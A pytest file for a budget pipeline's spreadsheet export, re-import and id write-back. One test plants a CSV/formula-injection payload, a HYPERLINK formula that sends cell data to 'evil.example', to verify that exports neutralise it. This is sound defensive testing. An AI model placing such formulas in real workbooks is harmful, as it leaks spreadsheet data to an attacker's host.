"""Spreadsheets both ways (issue 14): OPS's lines exported in the workbook layout, re-imported
unchanged or edited, and the ids of new lines written back into a copy of the submitted workbook."""
from __future__ import annotations

import datetime as dt
import json
import re
import shutil
import stat
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from sqlalchemy import func, inspect, select, text

from ops_pipeline.budget_export import Filters, _services_component, can_cell, export_lines
from ops_pipeline.cli import cli
from ops_pipeline.datasets.registry import get_dataset
from ops_pipeline.db.engine import make_engine
from ops_pipeline.db.ops_models import BudgetLineItem
from ops_pipeline.pipeline import run_pipeline
from ops_pipeline.rules.dates import fiscal_year
from ops_pipeline.sample import write_sample_workbook
from ops_pipeline.writeback import write_back
from tests.conftest import write_workbook

KINDS = ("project", "can", "agreement", "budget_line_item")


@pytest.fixture(scope="module")
def loaded(tmp_path_factory, _sqlite_template):
    """A SQLite OPS database holding the 300-line sample (loaded once), and the run that loaded it."""
    folder = tmp_path_factory.mktemp("loaded")
    path = folder / "ops.db"
    shutil.copy(_sqlite_template, path)
    url = f"sqlite:///{path}"
    book = write_sample_workbook(folder / "budget.xlsx", rows=300, seed=7, dirty=False)
    outcome = run_pipeline(str(book), runs_root=folder / "runs", db_url=url, accept_rejects=True)
    assert outcome.run.status("load") == "succeeded"
    return {"db": path, "book": book, "run": outcome.run}


@pytest.fixture
def ops_db(loaded, tmp_path) -> str:
    """A copy of the loaded database for one test."""
    path = tmp_path / "ops.db"
    shutil.copy(loaded["db"], path)
    return f"sqlite:///{path}"


def submit(book: Path, url: str, runs_root: Path):
    outcome = run_pipeline(str(book), runs_root=runs_root, db_url=url)
    assert outcome.error is None, outcome.error
    return outcome.run.manifest["stages"]["load"]["counts"]


def snapshot(url: str) -> dict:
    """Every OPS table's row count (history included), and every line as stored."""
    engine = make_engine(url)
    try:
        with engine.connect() as conn:
            schema = "ops" if conn.dialect.name == "postgresql" else None
            prefix = f'"{schema}".' if schema else ""
            names = [n for n in inspect(conn).get_table_names(schema=schema) if not n.startswith("ops_pipeline")]
            counts = {n: conn.execute(text(f'SELECT count(*) FROM {prefix}"{n}"')).scalar() for n in names}
            lines = {r[0]: tuple(r) for r in conn.execute(select(BudgetLineItem.__table__))}
        return {"counts": counts, "lines": lines}
    finally:
        engine.dispose()


def stored_lines(url: str) -> dict[int, tuple]:
    engine = make_engine(url)
    try:
        with engine.connect() as conn:
            t = BudgetLineItem.__table__
            return {r.id: (r.amount, r.status, r.comments, r.can_id) for r in
                    conn.execute(select(t.c.id, t.c.amount, t.c.status, t.c.comments, t.c.can_id))}
    finally:
        engine.dispose()


def sheet_rows(path: Path) -> tuple[list, list[list]]:
    book = openpyxl.load_workbook(path)
    sheet = book.active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    return rows[0], rows[1:]


# -- the layout ---------------------------------------------------------------------------------

def test_export_writes_the_layout_the_import_reads(ops_db, tmp_path):
    out = tmp_path / "budget.xlsx"
    result = export_lines(ops_db, out, layout="classic")
    dataset = get_dataset("budget-workbook")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == [dataset.preferred_sheets[0]]
    sheet = book.active
    header = [c.value for c in sheet[1]]
    headers = {c.field: c.header for c in dataset.columns}
    assert header == [headers[f] for f in ("can", "budget_id", "project_title", "agreement_name", "agreement_type",
                                           "line_description", "date_needed", "amount", "proc_fee_amount", "status")]
    assert "Comments" not in header  # PII only when asked
    stored = stored_lines(ops_db)
    exported = [r for r in sheet.iter_rows(min_row=2)]
    assert result["lines"] == len(exported) > 200
    # Every line with a CAN is there, by its id; those without one are counted as left out.
    assert {r[1].value for r in exported} == {i for i, v in stored.items() if v[3] is not None}
    assert result["left_out"] == {"no-can": sum(1 for v in stored.values() if v[3] is None)}
    first = exported[0]
    line = stored[first[1].value]
    assert first[7].data_type == "n" and Decimal(str(first[7].value)) == line[0]
    assert "$" in first[7].number_format
    assert first[6].is_date
    assert re.fullmatch(r"[A-Z][A-Z0-9]{6}( \(.+\))?", first[0].value)
    assert any(r[0].value == "G994648 (CC - SB - 5 YR)" for r in exported)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert not list(tmp_path.glob(".budget.xlsx.*"))  # no temporary left beside it


def test_comments_only_with_include_pii(ops_db, tmp_path):
    result = export_lines(ops_db, tmp_path / "pii.xlsx", include_pii=True, layout="classic")
    header, rows = sheet_rows(tmp_path / "pii.xlsx")
    assert header[-1] == "Comments" and result["include_pii"] is True
    stored = stored_lines(ops_db)
    assert {r[1]: r[10] if len(r) > 10 else None for r in rows} == {
        i: v[2] for i, v in stored.items() if v[3] is not None}


@pytest.mark.parametrize("number, description, portfolio, cell", [
    ("G99HRF2", "HS", "HS", "G99HRF2 (HS)"),
    ("G99HRF2", None, "HS", "G99HRF2"),
    ("G99HRF2", "HS (admin)", "HS", "G99HRF2"),  # the import would refuse the parentheses
    ("G99HRF2", "CC", "HS", "G99HRF2"),  # the import would move the CAN to portfolio CC
    ("G99HRF2", "Some text", "HS", "G99HRF2 (Some text)"),
])
def test_can_cell_is_what_reads_back_as_the_same_can(number, description, portfolio, cell):
    assert can_cell(number, description, portfolio) == cell


# -- round trips --------------------------------------------------------------------------------

@pytest.mark.parametrize("layout", ["classic", "current"])
@pytest.mark.parametrize("pii", [False, True])
def test_exported_workbook_submitted_unchanged_writes_nothing(ops_db, tmp_path, pii, layout):
    out = tmp_path / "budget.xlsx"
    export_lines(ops_db, out, include_pii=pii, layout=layout)
    before = snapshot(ops_db)
    counts = submit(out, ops_db, tmp_path / "runs")
    assert all(counts[k]["inserted"] == counts[k]["updated"] == counts[k]["rejected"] == 0 for k in KINDS), counts
    assert counts["budget_line_item"]["unchanged"] == export_lines(ops_db, tmp_path / "again.xlsx", layout=layout)["lines"]
    assert snapshot(ops_db) == before  # no data, no history, no audit stamps


def test_one_amount_and_one_status_edited_update_exactly_those_lines(ops_db, tmp_path):
    out = tmp_path / "budget.xlsx"
    export_lines(ops_db, out, layout="classic")
    book = openpyxl.load_workbook(out)
    sheet = book.active
    amount_row, status_row = sheet[2], sheet[3]
    amount_id, status_id = amount_row[1].value, status_row[1].value
    amount_row[7].value = 12345.67
    new_status = "Obligated" if status_row[9].value != "Obligated" else "Planned"
    status_row[9].value = new_status
    book.save(out)
    before = stored_lines(ops_db)
    counts = submit(out, ops_db, tmp_path / "runs")
    assert counts["budget_line_item"]["updated"] == 2 and counts["budget_line_item"]["inserted"] == 0
    assert all(counts[k]["updated"] == counts[k]["inserted"] == 0 for k in KINDS[:3])
    after = stored_lines(ops_db)
    assert after[amount_id][0] == Decimal("12345.67")
    assert after[status_id][1] == new_status.upper()
    changed = {i for i in before if before[i] != after[i]}
    assert changed == {amount_id, status_id}


def test_in_the_current_layout_one_edited_amount_updates_only_that_line(ops_db, tmp_path):
    out = tmp_path / "current.xlsx"
    assert export_lines(ops_db, out)["layout"] == "current"  # the layout budget staff keep today
    book = openpyxl.load_workbook(out)
    sheet = book.active
    at = {cell.value: i for i, cell in enumerate(sheet[1])}
    line_id = sheet[2][at["BL ID #"]].value
    sheet[2][at["SubTotal"]].value = 12345.67
    book.save(out)
    before = stored_lines(ops_db)
    counts = submit(out, ops_db, tmp_path / "runs")
    assert counts["budget_line_item"]["updated"] == 1 and counts["budget_line_item"]["inserted"] == 0, counts
    after = stored_lines(ops_db)
    assert after[line_id][0] == Decimal("12345.67")
    assert {i for i in before if before[i] != after[i]} == {line_id}


def test_formula_like_text_is_inert_and_reads_back_as_it_was(ops_db, tmp_path):
    engine = make_engine(ops_db)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with engine.begin() as conn:
        line_id = conn.execute(select(func.min(BudgetLineItem.id)).where(BudgetLineItem.can_id.is_not(None))).scalar()
        conn.execute(BudgetLineItem.__table__.update().where(BudgetLineItem.id == line_id)
                     .values(line_description=hostile, comments="@SUM(1+1)"))
    engine.dispose()
    out = tmp_path / "budget.xlsx"
    result = export_lines(ops_db, out, include_pii=True, layout="classic")
    assert result["quoted"] == 2
    xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere in the file
    book = openpyxl.load_workbook(out)
    row = next(r for r in book.active.iter_rows(min_row=2) if r[1].value == line_id)
    assert row[5].value == hostile and row[5].data_type == "s" and row[5].quotePrefix
    before = snapshot(ops_db)
    counts = submit(out, ops_db, tmp_path / "runs")
    assert counts["budget_line_item"]["updated"] == 0
    assert snapshot(ops_db) == before


def test_filters(ops_db, tmp_path):
    stored = stored_lines(ops_db)
    engine = make_engine(ops_db)
    with engine.connect() as conn:
        t = BudgetLineItem.__table__
        one = conn.execute(select(t.c.id, t.c.date_needed, t.c.status, t.c.agreement_id)
                           .where(t.c.can_id.is_not(None), t.c.date_needed.is_not(None), t.c.agreement_id.is_not(None))
                           .order_by(t.c.id)).first()
        rows = conn.execute(select(t.c.id, t.c.date_needed, t.c.status, t.c.can_id).where(t.c.can_id.is_not(None))).all()
        agreement = conn.execute(text("SELECT name FROM agreement WHERE id = :i"), {"i": one.agreement_id}).scalar()
        by_agreement = {r[0] for r in conn.execute(select(t.c.id).where(t.c.agreement_id == one.agreement_id,
                                                                       t.c.can_id.is_not(None)))}
        cc = {r[0] for r in conn.execute(text(
            "SELECT b.id FROM budget_line_item b JOIN can c ON b.can_id = c.id JOIN portfolio p "
            "ON c.portfolio_id = p.id WHERE p.abbreviation = 'CC'"))}
    engine.dispose()
    year = fiscal_year(one.date_needed)

    def ids(**kwargs):
        out = tmp_path / "f.xlsx"
        export_lines(ops_db, out, filters=Filters(**kwargs), layout="classic")
        return {r[1] for r in sheet_rows(out)[1]}

    assert ids(fiscal_years=(year,)) == {r.id for r in rows if r.date_needed and fiscal_year(r.date_needed) == year}
    assert ids(statuses=("executing",)) == {r.id for r in rows if r.status == "IN_EXECUTION"}
    assert ids(portfolios=("cc",)) == cc and cc
    assert ids(cans=("g994648",)) <= cc and ids(cans=("G994648",))
    assert ids(agreements=(agreement.upper(),)) == by_agreement == ids(agreements=(str(one.agreement_id),))
    assert ids(portfolios=("CC",), statuses=("OBLIGATED",)) == cc & {i for i, v in stored.items() if v[1] == "OBLIGATED"}


def test_export_of_a_run_is_what_it_loaded(loaded, ops_db, tmp_path):
    small = write_workbook(tmp_path / "small.xlsx", [
        ["G994648 (CC - SB - 5 YR)", "new", "Small Study", "Small Study Contract", "contract", "one line",
         dt.date(2025, 3, 1), 100, None, "planned", None],
        ["G994648 (CC - SB - 5 YR)", "new", "Small Study", "Small Study Contract", "contract", "two line",
         dt.date(2025, 3, 2), 200, None, "draft", None],
    ])
    outcome = run_pipeline(str(small), runs_root=tmp_path / "runs", db_url=ops_db)
    result = export_lines(ops_db, tmp_path / "run.xlsx", run=outcome.run, layout="classic")
    _, rows = sheet_rows(tmp_path / "run.xlsx")
    assert result["lines"] == 2 and [r[5] for r in rows] == ["one line", "two line"]
    assert result["run"] == outcome.run.run_id


# -- ids written back ---------------------------------------------------------------------------

def _styled_workbook(path: Path) -> Path:
    """A workbook as budget staff keep one: a title row, styles, widths, a formula, a data
    validation, a second sheet, and two new lines beside one OPS already has."""
    from openpyxl.styles import Font, PatternFill
    from openpyxl.worksheet.datavalidation import DataValidation

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "All Budget - Cur"
    sheet.append(["FY25 budget", None, None, None, None, None, None, None, None, None])
    sheet.append(["CAN", "Sys_Budget_ID", "Project Title", "CIG Name", "CIG Type", "Line Desc", "Date Needed",
                  "Amount", "PSCFee Amount", "Status", "Total Bud Cur"])
    sheet.append(["G994648 (CC - SB - 5 YR)", "new", "Writeback Study", "Writeback Contract", "contract",
                  "first new", dt.date(2025, 3, 1), 100, None, "planned", "=H3*2"])
    sheet.append(["G994648 (CC - SB - 5 YR)", None, "Writeback Study", "Writeback Contract", "contract",
                  "second new", dt.date(2025, 3, 2), 200, None, "draft", "=H4*2"])
    sheet["B4"].fill = PatternFill("solid", fgColor="FFFF00")
    sheet["A1"].font = Font(bold=True, size=14)
    sheet.column_dimensions["A"].width = 31
    validation = DataValidation(type="list", formula1='"planned,draft,obligated"')
    sheet.add_data_validation(validation)
    validation.add("J3:J100")
    other = book.create_sheet("Notes")
    other["A1"] = "kept as it is"
    book.save(path)
    return path


def test_writeback_fills_the_new_ids_and_changes_nothing_else(ops_db, tmp_path):
    book = _styled_workbook(tmp_path / "mine.xlsx")
    outcome = run_pipeline(str(book), runs_root=tmp_path / "runs", db_url=ops_db)
    assert outcome.run.manifest["stages"]["load"]["counts"]["budget_line_item"]["inserted"] == 2
    assert outcome.report["writeback"] == {
        "created": 2, "command": f"ops-pipeline writeback {outcome.run.path} -o WORKBOOK-with-ids.xlsx"}
    from ops_pipeline.stages.report import render

    assert "2 new lines got their ids in OPS; a copy of the workbook with them filled in: ops-pipeline writeback" \
        in " ".join(render(outcome.report, "text").split())
    out = tmp_path / "mine-with-ids.xlsx"
    result = write_back(outcome.run, out, db_url=ops_db)
    assert result["written"] == 2 and result["column"] == "B"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600

    engine = make_engine(ops_db)
    with engine.connect() as conn:
        t = BudgetLineItem.__table__
        ids = dict(conn.execute(select(t.c.line_description, t.c.id)
                                .where(t.c.line_description.in_(["first new", "second new"]))).all())
    engine.dispose()
    copy = openpyxl.load_workbook(out)
    assert [copy.active["B3"].value, copy.active["B4"].value] == [ids["first new"], ids["second new"]]
    assert copy.active["B4"].fill.fgColor.rgb == "00FFFF00"  # the cell keeps its style

    original, written = zipfile.ZipFile(book), zipfile.ZipFile(out)
    assert original.namelist() == written.namelist()
    for name in original.namelist():
        if name != "xl/worksheets/sheet1.xml":
            assert original.read(name) == written.read(name), name
    # In the sheet, only the two id cells differ: everything else is byte for byte the same.
    cell = re.compile(rb'<c r="B[34]"[^>]*?(/>|>.*?</c>)')
    assert cell.sub(b"", original.read("xl/worksheets/sheet1.xml")) == \
        cell.sub(b"", written.read("xl/worksheets/sheet1.xml"))

    again = run_pipeline(str(out), runs_root=tmp_path / "runs", db_url=ops_db)
    assert again.report["entities"]["budget_line_item"] == {
        "inserted": 0, "updated": 0, "unchanged": 2, "skipped": 0, "rejected": 0}
    assert again.report["writeback"] is None  # no new lines, nothing to write back


def test_writeback_cli(ops_db, tmp_path):
    book = _styled_workbook(tmp_path / "mine.xlsx")
    outcome = run_pipeline(str(book), runs_root=tmp_path / "runs", db_url=ops_db)
    out = tmp_path / "copy.xlsx"
    runner = CliRunner()
    result = runner.invoke(cli, ["writeback", str(outcome.run.path), "--db", ops_db, "-o", str(out), "--json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["written"] == 2
    refused = runner.invoke(cli, ["writeback", str(outcome.run.path), "--db", ops_db, "-o", str(tmp_path / "x.csv")])
    assert refused.exit_code != 0 and "must end in .xlsx" in refused.output


def test_export_cli(ops_db, tmp_path):
    out = tmp_path / "cli.xlsx"
    result = CliRunner().invoke(cli, ["export", "--db", ops_db, "-o", str(out), "--portfolio", "CC", "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data == export_lines(ops_db, tmp_path / "lib.xlsx", filters=Filters(portfolios=("CC",))) | {
        "path": str(out)}
    bad = CliRunner().invoke(cli, ["export", "--db", ops_db, "-o", str(out), "--status", "maybe"])
    assert bad.exit_code != 0 and "--status 'maybe' is not a status" in bad.output


def test_an_unreachable_database_is_one_line_without_the_password(tmp_path):
    url = "postgresql+psycopg://ops:hunter2-canary@127.0.0.1:1/ops?connect_timeout=2"
    out = tmp_path / "never.xlsx"
    result = CliRunner().invoke(cli, ["export", "--db", url, "-o", str(out)])
    assert result.exit_code != 0
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert "cannot use the postgresql" in lines[0], result.output
    assert "hunter2-canary" not in result.output and "Traceback" not in result.output
    assert not out.exists() and not list(tmp_path.iterdir())  # nothing half-written


@pytest.mark.postgres
def test_round_trip_on_postgresql(pg_schema_url, tmp_path):
    book = write_sample_workbook(tmp_path / "budget.xlsx", rows=60, seed=7, dirty=False)
    outcome = run_pipeline(str(book), runs_root=tmp_path / "runs", db_url=pg_schema_url, accept_rejects=True)
    assert outcome.run.status("load") == "succeeded", outcome.error and outcome.error.one_line()
    out = tmp_path / "export.xlsx"
    exported = export_lines(pg_schema_url, out)
    assert exported["lines"] > 20
    before = snapshot(pg_schema_url)
    assert before["counts"]["ops_db_history"] > 0  # the history tables are counted
    counts = submit(out, pg_schema_url, tmp_path / "runs")
    assert all(counts[k]["inserted"] == counts[k]["updated"] == 0 for k in KINDS), counts
    assert snapshot(pg_schema_url) == before
    book = openpyxl.load_workbook(out)
    book.active["H2"].value = 4321.09
    book.save(out)
    counts = submit(out, pg_schema_url, tmp_path / "runs")
    assert counts["budget_line_item"]["updated"] == 1


def test_lines_of_an_administrative_project_round_trip(ops_db, tmp_path):
    """The workbook says nothing of a project's type: OPS's administrative and support projects
    are matched by title and left as they are, never refused as a change of type."""
    engine = make_engine(ops_db)
    with engine.begin() as conn:
        project = conn.execute(text(  # a project with lines in the export
            "SELECT min(a.project_id) FROM budget_line_item b JOIN agreement a ON b.agreement_id = a.id "
            "WHERE b.can_id IS NOT NULL")).scalar()
        conn.execute(text("DELETE FROM research_project WHERE id = :i"), {"i": project})
        conn.execute(text("INSERT INTO administrative_and_support_project (id) VALUES (:i)"), {"i": project})
        conn.execute(text("UPDATE project SET project_type = 'ADMINISTRATIVE_AND_SUPPORT' WHERE id = :i"),
                     {"i": project})
    engine.dispose()
    out = tmp_path / "budget.xlsx"
    export_lines(ops_db, out, layout="classic")
    before = snapshot(ops_db)
    counts = submit(out, ops_db, tmp_path / "runs")
    assert counts["project"]["rejected"] == 0 and counts["project"]["updated"] == 0
    assert snapshot(ops_db) == before


def test_current_layout_writes_services_component_and_procurement_shop(ops_db, tmp_path):
    engine = make_engine(ops_db)
    with engine.begin() as conn:
        line = conn.execute(text(
            "SELECT b.id, b.agreement_id, b.amount FROM budget_line_item b WHERE b.can_id IS NOT NULL "
            "AND b.agreement_id IS NOT NULL ORDER BY b.id LIMIT 1")).one()
        conn.execute(text("INSERT INTO procurement_shop (id, name, abbr) VALUES (7, 'Government Contracting', 'GCS')"))
        conn.execute(text("INSERT INTO procurement_shop_fee (id, procurement_shop_id, fee) VALUES (3, 7, 4.8)"))
        conn.execute(text("UPDATE agreement SET awarding_entity_id = 7 WHERE id = :a"), {"a": line.agreement_id})
        conn.execute(text("INSERT INTO services_component (id, number, optional, agreement_id) VALUES (5, 2, 1, :a)"),
                     {"a": line.agreement_id})
        conn.execute(text("UPDATE budget_line_item SET services_component_id = 5, procurement_shop_fee_id = 3 "
                          "WHERE id = :i"), {"i": line.id})
    engine.dispose()
    out = tmp_path / "current.xlsx"
    result = export_lines(ops_db, out, layout="current", include_pii=True)
    header, rows = sheet_rows(out)
    assert header == ["BL ID #", "Portfolio", "Project", "Agreement", "SC", "Agreement Type", "Description",
                      "Obligate By", "FY", "CAN", "SubTotal", "Procurement shop", "Procurement shop fee",
                      "Procurement shop fee rate", "Status", "Comments"]
    assert result["layout"] == "current"
    row = next(r for r in rows if r[0] == line.id)
    cells = dict(zip(header, row))
    assert (cells["SC"], cells["Procurement shop"], cells["Procurement shop fee rate"]) == ("OSC2", "GCS", 4.8)
    assert Decimal(str(cells["Procurement shop fee"])) == (Decimal(str(line.amount)) * Decimal("0.048")).quantize(
        Decimal("0.01"))
    assert cells["FY"] == fiscal_year(cells["Obligate By"].date())


@pytest.mark.parametrize("number, optional, sub, cell", [
    (1, False, None, "SC1"), (3, True, None, "OSC3"), (1, False, "SC1.1", "SC1.1"), (1, False, "1", "SC1.1"),
    (None, False, None, None),
])
def test_the_sc_cell_is_what_the_current_layout_reads_back(number, optional, sub, cell):
    from ops_pipeline.rules.current import parse_services_component

    assert _services_component(number, optional, sub) == cell
    if cell is not None:
        read = parse_services_component(cell)
        assert (read.number, read.optional, read.label) == (number, optional, cell)


def test_write_numbers_places_a_missing_cell_in_column_order(tmp_path):
    from ops_pipeline.writers.cells import write_numbers

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "S"
    sheet["A1"], sheet["C1"] = "a", "c"  # no B1: the new cell goes between A1 and C1
    sheet["A2"] = "only a"  # nothing after B2: the new cell goes last
    sheet["B3"] = "=1+1"  # a formula is never overwritten
    source = tmp_path / "in.xlsx"
    book.save(source)
    with open(tmp_path / "out.xlsx", "wb") as handle:
        result = write_numbers(source, handle, "S", "B", {1: 11, 2: 22, 3: 33, 9: 99})
    assert sorted(result["written"]) == [1, 2] and result["formulas"] == [3] and result["missing_rows"] == [9]
    xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert re.search(r'<c r="A1"[^>]*>.*?</c><c r="B1"><v>11</v></c><c r="C1"', xml)
    assert re.search(r'<c r="B2"><v>22</v></c></row>', xml)
    copy = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert [copy["B1"].value, copy["B2"].value, copy["B3"].value, copy["C1"].value] == [11, 22, "=1+1", "c"]


def test_writeback_needs_an_id_column(ops_db, tmp_path):
    from ops_pipeline.errors import UsageError

    header = ["CAN", "Project Title", "CIG Name", "CIG Type", "Line Desc", "Date Needed", "Amount", "Status"]
    book = write_workbook(tmp_path / "noid.xlsx", [["G994648 (CC - SB - 5 YR)", "No Id Study", "No Id Contract",
                                                    "contract", "a line", dt.date(2025, 3, 1), 100, "planned"]],
                          header=header)
    outcome = run_pipeline(str(book), runs_root=tmp_path / "runs", db_url=ops_db)
    assert outcome.run.status("load") == "succeeded"
    with pytest.raises(UsageError, match="All Budget - Cur: the sheet has no Sys_Budget_ID column"):
        write_back(outcome.run, tmp_path / "out.xlsx", db_url=ops_db)
    assert not (tmp_path / "out.xlsx").exists()
